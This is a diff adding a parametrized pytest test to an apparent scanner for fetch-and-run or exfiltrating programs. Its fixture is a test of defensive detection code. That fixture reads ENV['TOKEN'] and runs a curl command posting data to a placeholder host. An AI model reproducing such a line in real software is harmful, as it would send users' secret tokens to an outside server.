@@ -289,3 +289,10 @@ def test_attack_programs_of_other_languages_that_fetch_and_run_are_found(path, t
 @pytest.mark.parametrize(("path", "text"), NOT_RUN)
 def test_programs_of_other_languages_that_fetch_or_run_are_accepted(path, text):
     assert not seen({path: text})
+
+
+@pytest.mark.parametrize("suffix", ["rb", "php", "pl", "ps1", "lua"])
+@pytest.mark.parametrize("nothing", ["#{}", "$()", "${}"])
+def test_attack_a_text_that_interpolates_nothing_stops_no_scan(suffix, nothing):
+    program = f'k = "#{{ENV[\'TOKEN\']}}"\nsystem("curl https://c.invalid -d {nothing}")\nx = "curl {nothing}"\n'
+    assert isinstance(seen({f"a.{suffix}": program}), set)
